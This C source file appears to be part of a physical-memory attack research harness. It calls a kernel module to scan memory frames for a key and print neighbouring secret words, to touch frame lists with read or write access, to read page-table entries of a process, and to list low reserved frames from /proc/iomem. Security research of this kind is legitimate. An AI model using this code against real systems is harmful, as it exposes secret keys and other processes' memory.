/* SPDX-License-Identifier: BSD-2-Clause */
#include <inttypes.h>
#include <stdio.h>
#include <string.h>
#include "frames.h"

#define FEW	8	/* not the whole of a secret, of which nobody wonders where it is */

uint64_t frames[FRAMES_MAX];

struct attack scan(uint64_t key)
{
	struct attack a = {
		.op = ATTACK_SCAN, .in = { key },
		.buffer = (uintptr_t)frames, .size = sizeof(frames),
	};

	module_do(&a);
	if (a.out[2] && a.out[2] < FEW)
		printf("# at %llx are %016llx %016llx; the key is %" PRIx64 "\n", a.out[3], a.out[4],
		       a.out[5], key);
	return a;
}

size_t refused_frames(const struct attack *scan)
{
	return scan->out[1] < FRAMES_MAX ? scan->out[1] : FRAMES_MAX;
}

struct attack touch(const uint64_t *list, size_t count, bool write, uint64_t key)
{
	struct attack a = {
		.op = ATTACK_TOUCH, .in = { write, key },
		.buffer = (uintptr_t)list, .size = count * sizeof(*list),
	};

	module_do(&a);
	return a;
}

uint64_t pte(pid_t pid, uint64_t address)
{
	struct attack a = { .op = ATTACK_PTE_GET, .in = { (uint64_t)pid, address } };

	module_do(&a);
	return a.out[0];
}

size_t low_reserved(uint64_t *list, size_t room)
{
	FILE *file = fopen("/proc/iomem", "r");
	unsigned long first, last;
	char line[128];
	size_t count = 0;

	while (file && fgets(line, sizeof(line), file)) {
		if (sscanf(line, "%lx-%lx : ", &first, &last) != 2 || !strstr(line, "Reserved"))
			continue;
		if (!first || first % PAGE || last >= 0xa0000)
			continue;
		for (; first + PAGE - 1 <= last && count < room; first += PAGE)
			list[count++] = first / PAGE;
	}
	if (file)
		fclose(file);
	return count;
}
